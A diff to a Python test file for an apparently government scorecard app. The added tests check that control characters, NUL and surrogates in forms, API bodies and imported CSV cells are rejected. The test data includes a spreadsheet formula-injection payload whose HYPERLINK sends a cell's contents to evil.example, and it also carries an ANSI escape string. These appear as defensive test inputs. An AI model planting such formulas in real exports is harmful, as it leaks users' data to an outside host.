@@ -1,7 +1,9 @@
-"""Texts no column keeps (scorecard.text): a NUL or an unpaired surrogate, from a form, a query
-string, a JSON body or an imported cell, is refused naming where it is, and nothing changes; it
-used to reach PostgreSQL (which refuses NUL in text) or the page that shows it (which cannot write
-a surrogate as UTF-8) and end in a 500."""
+"""Texts no column keeps (scorecard.text): a NUL, an unpaired surrogate or another control character
+(U+0001 to U+001F but tab and line breaks), from a form, a query string, a JSON body or an imported
+cell, is refused naming where it is, and nothing changes. A NUL used to reach PostgreSQL (which
+refuses it in text), a surrogate the page that shows it (which cannot write it as UTF-8), both ending
+in a 500; a control character made every workbook export holding it fail, and one in front of "="
+hid a formula from the export's neutralising."""
 import re
 
 import pytest
@@ -50,7 +52,9 @@ def test_the_api_refuses_such_texts_with_a_problem_naming_where_they_are(api, ht
         observations = db.session.scalar(sa.select(sa.func.count()).select_from(Observation))
     url = f"{PREFIX}/commitments/{cid}"
     for body, column in (({"note": "a\u0000b"}, "note"), ({"evidence_links": ["https://x.gov/\ud800"]},
-                                                          "evidence_links"), ({"next_step": "\ud800"}, "next_step")):
+                                                          "evidence_links"), ({"next_step": "\ud800"}, "next_step"),
+                         ({"next_step": '\u0001=HYPERLINK("http://evil.example?d="&B2,"Open")'}, "next_step"),
+                         ({"reason": "late\u001b[31m"}, "reason")):
         response = http.patch(url, json=body, headers={**_bearer(officer), "If-Match": f'"{version}"'})
         assert response.status_code == 422, (body, response.get_data(as_text=True)[:300])
         [error] = response.get_json()["errors"]
@@ -90,3 +94,25 @@ def test_a_text_that_shows_nothing_is_blank_and_one_that_shows_something_is_not(
         assert blank(shows_nothing), repr(shows_nothing)
     for shows_something in ("a", " x ", "e\u0301", "\u200bok", "5", "—", "日本"):
         assert not blank(shows_something), repr(shows_something)
+
+
+def test_an_imported_cell_holding_a_control_character_is_named_at_the_preview(demo, tmp_path):
+    path = tmp_path / "control.csv"
+    path.write_text("component,program,metric,period,value,n,touchpoint\n"
+                    'Benefits Administration,Benefits Call Center,trust,FY2027-Q1,4.1,100,"\x01=HYPERLINK(""x"")"\n')
+    with demo.app_context():
+        before = db.session.scalar(sa.select(sa.func.count()).select_from(Observation))
+        result = run_import(db.session, path)
+        assert result.status == "rejected"
+        [error] = result.errors
+        assert (error["row"], error["column"]) == (2, "touchpoint")
+        assert "control character (U+0001)" in error["message"], error
+        assert db.session.scalar(sa.select(sa.func.count()).select_from(Observation)) == before
+
+
+def test_a_form_holding_a_control_character_is_400_naming_the_field(demo, client_as):
+    officer = client_as("officer")
+    response = officer.post("/commitments/new", data={
+        "csrf_token": _token(officer, "/commitments/new"), "title": "Close the \x07backlog", "status": "on_track"})
+    assert response.status_code == 400
+    assert "The field “title” holds a control character (U+0007)" in response.get_data(as_text=True)
